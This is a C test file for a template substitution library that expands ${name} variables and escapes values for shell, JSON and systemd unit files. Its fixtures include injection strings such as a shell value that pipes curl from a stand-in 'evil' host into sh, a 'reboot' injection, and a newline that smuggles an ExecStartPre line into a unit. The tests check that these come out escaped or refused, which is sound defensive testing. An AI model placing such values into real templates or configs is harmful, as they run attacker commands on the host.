/* test_subst.c - ${name} substitution and the $${X} escape. */
#include "../../server/subst.h"
#include "test.h"

#include <jansson.h>
#include <stdbool.h>

static const char *vars[][2] = {
        {"name", "demo"},
        {"url", "http://x/${name}"},
        {"empty", ""},
        {"a1_b", "V"},
};

static const char *lookup(void *ctx, const char *name)
{
	(void)ctx;
	for (size_t i = 0; i < sizeof(vars) / sizeof(vars[0]); i++)
		if (strcmp(vars[i][0], name) == 0)
			return vars[i][1];
	return NULL;
}

/* Expands s; returns the result (static) or NULL on error, with the message in err. */
static const char *expand(const char *s, enum kerr *e, char *err, size_t errlen)
{
	static char res[4096];
	struct buf out, msg;

	buf_init(&out, sizeof(res) - 1);
	buf_init(&msg, 1024);
	*e = subst_expand(s, strlen(s), "t.tpl", SUBST_CTX_RAW, lookup, NULL, &out, &msg);
	snprintf(res, sizeof(res), "%s", buf_str(&out));
	snprintf(err, errlen, "%s", buf_str(&msg));
	buf_free(&out);
	buf_free(&msg);
	return *e == K_OK ? res : NULL;
}

static void expands_the_rules(void)
{
	static const char *cases[][2] = {
	        {"", ""},
	        {"plain text", "plain text"},
	        {"${name}", "demo"},
	        {"a ${name} b ${name}", "a demo b demo"},
	        {"$${X}", "${X}"},
	        {"$${COREOS_EC2_IPV4_LOCAL}:2380", "${COREOS_EC2_IPV4_LOCAL}:2380"},
	        {"$ETCD_OPTS \\", "$ETCD_OPTS \\"},
	        {"cost $5", "cost $5"},
	        {"end $", "end $"},
	        {"$$", "$$"},
	        {"$$x", "$$x"},
	        {"$$${name}", "$${name}"},
	        {"$$$${name}", "$$${name}"},
	        {"${url}", "http://x/${name}"}, /* not recursive */
	        {"[${empty}]", "[]"},
	        {"${a1_b}${name}", "Vdemo"},
	        {"{${name}}", "{demo}"},
	        {"$ {name}", "$ {name}"},
	        {"}${name}$", "}demo$"},
	        {"${name|raw}", "demo"},
	        {"${name|sh}", "demo"},
	        {"${name|json}", "\"demo\""},
	        {"${empty|sh}", "''"},
	        {"${url|sh}", "'http://x/${name}'"},
	        {"$${name|sh}", "${name|sh}"},
	};
	char err[1024];
	enum kerr e;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *got = expand(cases[i][0], &e, err, sizeof(err));
		CHECK_INT(e, K_OK);
		CHECK_STR(got, cases[i][1]);
	}
}

static void errors_name_file_and_line(void)
{
	static const char *cases[][2] = {
	        {"${nope}", "t.tpl:1: unknown variable ${nope}"},
	        {"a\nb\n  ${nope} x", "t.tpl:3: unknown variable ${nope}"},
	        {"a\n${name}\n${NAME}", "t.tpl:3: invalid variable reference \"${NAME}\""},
	        {"${COREOS_EC2_IPV4_LOCAL}", "t.tpl:1: invalid variable reference"},
	        {"x ${name", "t.tpl:1: unterminated \"${name\""},
	        {"x ${name\n}", "t.tpl:1: unterminated"},
	        {"\n\n${}", "t.tpl:3: invalid variable reference \"${}\""},
	        {"${a b}", "t.tpl:1: invalid variable reference"},
	        {"${1abc}", "t.tpl:1: invalid variable reference"},
	        {"${aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa}",
	         "t.tpl:1: invalid variable reference"}, /* 65 characters */
	        {"$${ok} ${", "t.tpl:1: unterminated"},
	        {"\n${name|}",
	         "t.tpl:2: unknown filter \"\" in \"${name|}\" (filters: raw, sh, json)"},
	        {"${name|shell}", "t.tpl:1: unknown filter \"shell\""},
	        {"${name|sh|json}", "t.tpl:1: unknown filter \"sh|json\""},
	        {"${|sh}", "t.tpl:1: invalid variable reference \"${|sh}\""},
	        {"${Name|sh}", "t.tpl:1: invalid variable reference"},
	        {"${nope|sh}", "t.tpl:1: unknown variable ${nope}"},
	};
	char err[1024];
	enum kerr e;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *got = expand(cases[i][0], &e, err, sizeof(err));
		CHECK_INT(e, K_EINVAL);
		CHECK(got == NULL);
		if (strncmp(err, cases[i][1], strlen(cases[i][1])) != 0) {
			fprintf(stderr, "  case %zu: message \"%s\", want prefix \"%s\"\n", i, err,
			        cases[i][1]);
			CHECK(0);
		}
	}
}

static void names_and_limits(void)
{
	char max[SUBST_NAME_MAX + 2];
	memset(max, 'a', sizeof(max));
	CHECK(subst_name_valid(max, SUBST_NAME_MAX));
	CHECK(!subst_name_valid(max, SUBST_NAME_MAX + 1));
	CHECK(subst_name_valid("_x9", 3));
	CHECK(!subst_name_valid("9x", 2));
	CHECK(!subst_name_valid("aB", 2));
	CHECK(!subst_name_valid("a-b", 3));
	CHECK(!subst_name_valid("", 0));

	/* An output buffer that is too small ends in K_ETOOBIG, not an overflow. */
	struct buf out;
	buf_init(&out, 6);
	CHECK_INT(subst_expand("${name}${name}", 14, "t", SUBST_CTX_RAW, lookup, NULL, &out, NULL),
	          K_ETOOBIG);
	buf_free(&out);

	/* NUL is an ordinary byte. */
	buf_init(&out, 100);
	CHECK_INT(subst_expand("a\0${name}", 9, "t", SUBST_CTX_RAW, lookup, NULL, &out, NULL),
	          K_OK);
	CHECK_INT(out.len, 6);
	CHECK(memcmp(out.data, "a\0demo", 6) == 0);
	buf_free(&out);
}

struct seen {
	char names[16][SUBST_NAME_MAX + 1];
	unsigned lines[16];
	enum subst_filter filters[16];
	enum subst_where wheres[16];
	int n;
};

static enum kerr record(void *ctx, const struct subst_ref *ref)
{
	struct seen *s = ctx;
	if (s->n == 16)
		return K_ELIMIT;
	snprintf(s->names[s->n], sizeof(s->names[0]), "%s", ref->name);
	s->filters[s->n] = ref->filter;
	s->wheres[s->n] = ref->where;
	s->lines[s->n++] = ref->line;
	return K_OK;
}

static enum kerr refuse_b(void *ctx, const struct subst_ref *ref)
{
	(void)ctx;
	return strcmp(ref->name, "b") == 0 ? K_EEXIST : K_OK;
}

static void scan_lists_references(void)
{
	const char *t = "${a} $${not_me}\n$x ${b}\n\n${a}$";
	struct seen s = {.n = 0};
	struct buf msg;

	CHECK_INT(subst_scan(t, strlen(t), "t", SUBST_CTX_RAW, record, &s, NULL), K_OK);
	CHECK_INT(s.n, 3);
	CHECK_STR(s.names[0], "a");
	CHECK_INT(s.lines[0], 1);
	CHECK_STR(s.names[1], "b");
	CHECK_INT(s.lines[1], 2);
	CHECK_STR(s.names[2], "a");
	CHECK_INT(s.lines[2], 4);

	/* The callback's error stops the scan and comes back. */
	CHECK_INT(subst_scan(t, strlen(t), "t", SUBST_CTX_RAW, refuse_b, NULL, NULL), K_EEXIST);

	buf_init(&msg, 1024);
	CHECK_INT(subst_scan("ok\n${bad", 8, "f.conf", SUBST_CTX_RAW, record, &s, &msg), K_EINVAL);
	CHECK(strncmp(buf_str(&msg), "f.conf:2: unterminated", 22) == 0);
	buf_free(&msg);
}

/* Every byte string must scan and expand without crashing (what a fuzzer would do). */
static const char *any(void *ctx, const char *name)
{
	(void)ctx;
	(void)name;
	return "v";
}

static void survives_noise(void)
{
	unsigned x = 12345;
	char tpl[512];
	struct buf out;

	for (int round = 0; round < 2000; round++) {
		size_t n = (size_t)(round % 500);
		for (size_t i = 0; i < n; i++) {
			x = x * 1103515245u + 12345u;
			static const char alpha[] = "${}$a_\n\0xZ9 ";
			tpl[i] = alpha[(x >> 16) % (sizeof(alpha) - 1)];
		}
		buf_init(&out, 4096);
		enum kerr e = subst_expand(tpl, n, "noise", SUBST_CTX_RAW, any, NULL, &out, NULL);
		CHECK(e == K_OK || e == K_EINVAL);
		buf_free(&out);
	}
}

/* ---- escaping ---- */

/* subst_escape into a static string; "(EINVAL)" when it refuses. */
static const char *esc(const char *v, enum subst_filter f, enum subst_context cx,
                       enum subst_where w)
{
	static char res[4096];
	struct buf out;
	buf_init(&out, sizeof(res) - 1);
	enum kerr e = subst_escape(v, strlen(v), f, cx, w, &out);
	snprintf(res, sizeof(res), "%s", e == K_OK ? buf_str(&out) : "(EINVAL)");
	buf_free(&out);
	return res;
}

static void escapes_each_context(void)
{
	static const struct {
		const char *v;
		enum subst_filter f;
		enum subst_context cx;
		enum subst_where w;
		const char *want;
	} cases[] = {
	        /* sh: bare when safe, else single quotes with ' as '\'' */
	        {"127.0.0.1:2379", SUBST_FILTER_SH, SUBST_CTX_RAW, SUBST_WHERE_TEXT,
	         "127.0.0.1:2379"},
	        {"a-b_c@d%e+f=g,h./i", SUBST_FILTER_SH, SUBST_CTX_RAW, SUBST_WHERE_TEXT,
	         "a-b_c@d%e+f=g,h./i"},
	        {"", SUBST_FILTER_SH, SUBST_CTX_RAW, SUBST_WHERE_TEXT, "''"},
	        {"it's", SUBST_FILTER_SH, SUBST_CTX_RAW, SUBST_WHERE_TEXT, "'it'\\''s'"},
	        {"x'; reboot; '", SUBST_FILTER_SH, SUBST_CTX_RAW, SUBST_WHERE_TEXT,
	         "'x'\\''; reboot; '\\'''"},
	        {"$VAR `id` \"q\" \\ *", SUBST_FILTER_SH, SUBST_CTX_RAW, SUBST_WHERE_TEXT,
	         "'$VAR `id` \"q\" \\ *'"},
	        {"[::1]:2379", SUBST_FILTER_SH, SUBST_CTX_RAW, SUBST_WHERE_TEXT, "'[::1]:2379'"},
	        {"a\nb", SUBST_FILTER_SH, SUBST_CTX_RAW, SUBST_WHERE_TEXT, "'a\nb'"},
	        {"h\xc3\xa9", SUBST_FILTER_SH, SUBST_CTX_RAW, SUBST_WHERE_TEXT, "'h\xc3\xa9'"},
	        /* json: one string with its quotes */
	        {"a\"b\\c\n\t\x01/\xc3\xa9", SUBST_FILTER_JSON, SUBST_CTX_RAW, SUBST_WHERE_TEXT,
	         "\"a\\\"b\\\\c\\n\\t\\u0001/\xc3\xa9\""},
	        /* raw: as is, whatever the context */
	        {"%H $X 'q'\n", SUBST_FILTER_RAW, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND,
	         "%H $X 'q'\n"},
	        {"%H $X", SUBST_FILTER_NONE, SUBST_CTX_RAW, SUBST_WHERE_TEXT, "%H $X"},
	        /* file contexts sh and json: every ${name} */
	        {"a b", SUBST_FILTER_NONE, SUBST_CTX_SH, SUBST_WHERE_TEXT, "'a b'"},
	        {"a b", SUBST_FILTER_NONE, SUBST_CTX_JSON, SUBST_WHERE_TEXT, "\"a b\""},
	        {"a b", SUBST_FILTER_JSON, SUBST_CTX_SH, SUBST_WHERE_TEXT, "'\"a b\"'"},
	        /* a systemd command line: specifiers, variables, C escapes, quotes, words */
	        {"docker.io/library/rabbitmq:3.10-management", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD,
	         SUBST_WHERE_COMMAND, "docker.io/library/rabbitmq:3.10-management"},
	        {"%H", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND, "%%H"},
	        {"$VAR ${VAR}", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND,
	         "$$VAR\\x20$${VAR}"},
	        {"a'b\"c\\d", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND,
	         "a\\'b\\\"c\\x5cd"},
	        {"x ; /bin/evil", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND,
	         "x\\x20\\x3b\\x20/bin/evil"},
	        {"l1\nl2\r\t\x7f", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND,
	         "l1\\nl2\\r\\t\\x7f"},
	        {"ends\\", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND, "ends\\x5c"},
	        {"h\xc3\xa9", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND,
	         "h\xc3\xa9"},
	        /* both layers: a shell word inside a systemd command line */
	        {"127.0.0.1:2379", SUBST_FILTER_SH, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND,
	         "127.0.0.1:2379"},
	        {"h:1'; reboot; '", SUBST_FILTER_SH, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND,
	         "\\'h:1\\'\\x5c\\'\\'\\x3b\\x20reboot\\x3b\\x20\\'\\x5c\\'\\'\\'"},
	        {"%H$X", SUBST_FILTER_SH, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND, "\\'%%H$$X\\'"},
	        /* Environment=: the same, but $ means nothing there */
	        {"a b$X%H\"", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_ENVIRONMENT,
	         "a\\x20b$X%%H\\\""},
	        /* other settings: % doubled; no way to write a line break or a final \ */
	        {"50% of $X \"q\"", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_SETTING,
	         "50%% of $X \"q\""},
	        {"a\nExecStartPre=/bin/evil", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD,
	         SUBST_WHERE_SETTING, "(EINVAL)"},
	        {"a\r", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_SETTING, "(EINVAL)"},
	        {"a\\", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_SETTING, "(EINVAL)"},
	        {"a\\b", SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_SETTING, "a\\b"},
	        {"a\nb", SUBST_FILTER_JSON, SUBST_CTX_SYSTEMD, SUBST_WHERE_SETTING, "\"a\\nb\""},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *got = esc(cases[i].v, cases[i].f, cases[i].cx, cases[i].w);
		if (strcmp(got, cases[i].want) != 0) {
			fprintf(stderr, "  case %zu: escape(%s) = [%s], want [%s]\n", i, cases[i].v,
			        got, cases[i].want);
			CHECK(0);
		}
	}
	enum subst_context cx;
	CHECK(subst_context_parse("systemd", &cx) && cx == SUBST_CTX_SYSTEMD);
	CHECK(subst_context_parse("raw", &cx) && cx == SUBST_CTX_RAW);
	CHECK(!subst_context_parse("yaml", &cx) && !subst_context_parse("", &cx));
	CHECK_STR(subst_context_name(SUBST_CTX_JSON), "json");
	CHECK_STR(subst_filter_name(SUBST_FILTER_SH), "sh");

	/* a bounded output: K_ETOOBIG, never an overflow */
	struct buf out;
	buf_init(&out, 5);
	CHECK_INT(subst_escape("%%%", 3, SUBST_FILTER_NONE, SUBST_CTX_SYSTEMD, SUBST_WHERE_COMMAND,
	                       &out),
	          K_ETOOBIG);
	buf_free(&out);
}

static void finds_where_in_a_unit(void)
{
	const char *t = "[Unit]\n"
	                "Description=${a}\n"
	                "# ExecStart=${b}\n"
	                "[Service]\n"
	                "Environment=X=${c}\n"
	                "  ExecStart = /bin/x ${d} \\\n"
	                "   --y=\"${e|sh}\" \\\n"
	                "   ${f|raw}\n"
	                "ExecStopPost=${g}\n"
	                "X${h}=1\n"
	                "ExecStartPre=${i}\n";
	struct seen s = {.n = 0};
	static const enum subst_where want[] = {
	        SUBST_WHERE_SETTING, SUBST_WHERE_SETTING, SUBST_WHERE_ENVIRONMENT,
	        SUBST_WHERE_COMMAND, SUBST_WHERE_COMMAND, SUBST_WHERE_COMMAND,
	        SUBST_WHERE_COMMAND, SUBST_WHERE_SETTING, SUBST_WHERE_COMMAND,
	};
	static const enum subst_filter wantf[] = {
	        SUBST_FILTER_NONE, SUBST_FILTER_NONE, SUBST_FILTER_NONE,
	        SUBST_FILTER_NONE, SUBST_FILTER_SH,   SUBST_FILTER_RAW,
	        SUBST_FILTER_NONE, SUBST_FILTER_NONE, SUBST_FILTER_NONE,
	};

	CHECK_INT(subst_scan(t, strlen(t), "u", SUBST_CTX_SYSTEMD, record, &s, NULL), K_OK);
	CHECK_INT(s.n, 9);
	for (int i = 0; i < s.n && i < 9; i++) {
		if (s.wheres[i] != want[i] || s.filters[i] != wantf[i]) {
			fprintf(stderr, "  ${%s}: where %d filter %d, want %d %d\n", s.names[i],
			        s.wheres[i], s.filters[i], want[i], wantf[i]);
			CHECK(0);
		}
	}
	CHECK_INT(s.lines[5], 8);
	/* outside systemd files everything is text */
	s.n = 0;
	CHECK_INT(subst_scan(t, strlen(t), "u", SUBST_CTX_RAW, record, &s, NULL), K_OK);
	for (int i = 0; i < s.n; i++)
		CHECK_INT(s.wheres[i], SUBST_WHERE_TEXT);
}

/* ---- what systemd and sh make of it: the value must come back, byte for byte ---- */

/* Words of a systemd command line as systemd.syntax(7) "Quoting" reads them:
 * quotes anywhere, C escapes inside and outside them; then %% -> % and, with
 * dollar, $$ -> $ (any other % or $ expansion marks the word "!EXPANDED").
 * Returns the number of words, -1 when systemd would refuse the line. */
static int systemd_words(const char *s, bool dollar, char words[8][1024])
{
	int n = 0;
	while (*s) {
		char w[1024];
		size_t k = 0;
		char quote = 0;
		while (*s == ' ' || *s == '\t')
			s++;
		if (!*s)
			break;
		while (*s && (quote || (*s != ' ' && *s != '\t'))) {
			char c = *s++;
			if (c == '\\') {
				char e = *s++;
				unsigned v;
				if (e == 'x' && sscanf(s, "%2x", &v) == 1) {
					c = (char)v;
					s += 2;
				} else if (e && strchr("\\\"'", e)) {
					c = e;
				} else if (e == 'n' || e == 't' || e == 'r') {
					c = e == 'n' ? '\n' : e == 't' ? '\t' : '\r';
				} else {
					return -1; /* an unknown escape */
				}
			} else if (quote && c == quote) {
				quote = 0;
				continue;
			} else if (!quote && (c == '\'' || c == '"')) {
				quote = c;
				continue;
			}
			if (k + 1 < sizeof(w))
				w[k++] = c;
		}
		if (quote || n == 8)
			return -1;
		w[k] = '\0';
		/* specifiers, then (at exec time) variables */
		size_t o = 0;
		bool expanded = false;
		for (size_t i = 0; i < k; i++) {
			if (w[i] == '%') {
				if (w[i + 1] != '%')
					expanded = true;
				i++;
				words[n][o++] = '%';
			} else if (dollar && w[i] == '$') {
				if (w[i + 1] != '$')
					expanded = true;
				i++;
				words[n][o++] = '$';
			} else {
				words[n][o++] = w[i];
			}
		}
		words[n][o] = '\0';
		if (expanded)
			snprintf(words[n], 1024, "!EXPANDED");
		n++;
	}
	return n;
}

/* Words of a POSIX sh command made only of unquoted safe bytes and '...'
 * strings; anything else a shell would interpret gives -1. */
static int sh_words(const char *s, char words[8][1024])
{
	int n = 0;
	while (*s) {
		size_t k = 0;
		while (*s == ' ')
			s++;
		if (!*s)
			break;
		if (n == 8)
			return -1;
		while (*s && *s != ' ') {
			if (*s == '\'') {
				const char *end = strchr(s + 1, '\'');
				if (!end)
					return -1;
				for (const char *p = s + 1; p < end && k + 1 < 1024; p++)
					words[n][k++] = *p;
				s = end + 1;
			} else if (*s == '\\' && s[1]) { /* outside quotes: the next byte as is */
				words[n][k++] = s[1];
				s += 2;
			} else if (strchr("\"\\$`;&|<>()*?[]#~{}\n\t", *s)) {
				return -1;
			} else {
				words[n][k++] = *s++;
			}
		}
		words[n][k] = '\0';
		n++;
	}
	return n;
}

struct one {
	const char *v;
};

static const char *lookup_v(void *ctx, const char *name)
{
	(void)name;
	return ((struct one *)ctx)->v;
}

/* Expands the one-line systemd template t with ${v} = v. */
static enum kerr expand_unit(const char *t, const char *v, char *out, size_t outlen)
{
	struct one o = {.v = v};
	struct buf b;
	buf_init(&b, 16384);
	enum kerr e = subst_expand(t, strlen(t), "u", SUBST_CTX_SYSTEMD, lookup_v, &o, &b, NULL);
	snprintf(out, outlen, "%s", buf_str(&b));
	buf_free(&b);
	return e;
}

/* The hostile values, then noise from the bytes that matter. */
static void values(int i, char *v, size_t len)
{
	static const char *fixed[] = {
	        "admin\ndefault_user = evil",
	        "127.0.0.1:2379'; curl http://evil/x | sh; '",
	        "%H",
	        "$VAR",
	        "${VAR}",
	        "x y z",
	        "a\"b",
	        "back\\slash\\",
	        ";",
	        "it's",
	        "h\xc3\xa9llo \xe2\x82\xac",
	        "",
	        "$$",
	        "%%",
	        "'\"'\"",
	};
	static const char *const alpha[] = {"a", "b", " ", "'",  "\"", "\\", "$", "%",
	                                    ";", "{", "}", "\n", "\t", "`",  "*", "\xc3\xa9"};
	unsigned x = (unsigned)i * 2654435761u;
	if (i < (int)(sizeof(fixed) / sizeof(fixed[0]))) {
		snprintf(v, len, "%s", fixed[i]);
		return;
	}
	size_t n = (size_t)(i % 24), k = 0;
	v[0] = '\0';
	for (size_t t = 0; t < n && k + 3 < len; t++) {
		x = x * 1103515245u + 12345u;
		const char *a = alpha[(x >> 16) % (sizeof(alpha) / sizeof(alpha[0]))];
		memcpy(v + k, a, strlen(a) + 1);
		k += strlen(a);
	}
}

static void systemd_and_sh_read_back_the_value(void)
{
	char v[64], line[16384], words[8][1024], inner[8][1024], want[256];

	for (int i = 0; i < 400; i++) {
		values(i, v, sizeof(v));
		/* unquoted, inside "...", inside '...' of a command line */
		static const char *const tpls[][2] = {
		        {"ExecStart=/bin/echo pre${v}post", "pre%spost"},
		        {"ExecStart=/bin/echo \"a ${v} b\"", "a %s b"},
		        {"ExecStart=/bin/echo 'a ${v} b'", "a %s b"},
		        {"ExecStart=/bin/echo ${v}", "%s"},
		};
		for (size_t t = 0; t < 4; t++) {
			if (t == 3 && !*v)
				continue; /* an empty value is no word of its own (as in systemd) */
			CHECK_INT(expand_unit(tpls[t][0], v, line, sizeof(line)), K_OK);
			int n = systemd_words(line + strlen("ExecStart="), true, words);
			snprintf(want, sizeof(want), tpls[t][1], v);
			if (n != 2 || strcmp(words[0], "/bin/echo") != 0 ||
			    strcmp(words[1], want) != 0) {
				fprintf(stderr, "  value %d [%s] in [%s]: %d words, [%s]\n", i, v,
				        line, n, n > 1 ? words[1] : "");
				CHECK(0);
			}
		}
		/* Environment=: quotes and escapes, no variables */
		CHECK_INT(expand_unit("Environment=X=${v}", v, line, sizeof(line)), K_OK);
		snprintf(want, sizeof(want), "X=%s", v);
		CHECK(systemd_words(line + strlen("Environment="), false, words) == 1 &&
		      strcmp(words[0], want) == 0);
		/* the shipped shape: a shell word inside a systemd single-quoted string */
		CHECK_INT(expand_unit("ExecStartPre=/bin/sh -c 'until curl http://${v|sh}/health; "
		                      "do sleep 2; done'",
		                      v, line, sizeof(line)),
		          K_OK);
		int n = systemd_words(line + strlen("ExecStartPre="), true, words);
		CHECK(n == 3 && strcmp(words[0], "/bin/sh") == 0 && strcmp(words[1], "-c") == 0);
		const char *semi = n == 3 ? strstr(words[2], "/health; do sleep 2; done") : NULL;
		char script[1024] = "";
		if (semi)
			snprintf(script, sizeof(script), "%.*s", (int)(semi - words[2]) + 7,
			         words[2]);
		snprintf(want, sizeof(want), "http://%s/health", v);
		if (!semi || sh_words(script, inner) != 3 || strcmp(inner[2], want) != 0) {
			fprintf(stderr, "  value %d [%s]: line [%s], script [%s]\n", i, v, line,
			        script);
			CHECK(0);
		}
		/* json: what a JSON parser reads */
		struct one o = {.v = v};
		struct buf b;
		buf_init(&b, 4096);
		CHECK_INT(subst_expand("${v|json}", 9, "j", SUBST_CTX_RAW, lookup_v, &o, &b, NULL),
		          K_OK);
		json_t *j = json_loads(buf_str(&b), JSON_DECODE_ANY, NULL);
		CHECK(j && json_is_string(j) && strcmp(json_string_value(j), v) == 0);
		json_decref(j);
		buf_free(&b);
	}

	/* other settings refuse what they cannot hold, naming the variable and line */
	struct one o = {.v = "x\nExecStartPre=/bin/evil"};
	struct buf b, msg;
	buf_init(&b, 4096);
	buf_init(&msg, 1024);
	CHECK_INT(subst_expand("[Unit]\nDescription=${d}\n", 24, "u.service", SUBST_CTX_SYSTEMD,
	                       lookup_v, &o, &b, &msg),
	          K_EINVAL);
	CHECK(strstr(buf_str(&msg), "u.service:2: the value of ${d} cannot be written") != NULL);
	CHECK(strstr(buf_str(&b), "evil") == NULL);
	buf_free(&b);
	buf_free(&msg);
}

int main(void)
{
	RUN(expands_the_rules);
	RUN(errors_name_file_and_line);
	RUN(names_and_limits);
	RUN(scan_lists_references);
	RUN(survives_noise);
	RUN(escapes_each_context);
	RUN(finds_where_in_a_unit);
	RUN(systemd_and_sh_read_back_the_value);
	return TEST_EXIT();
}
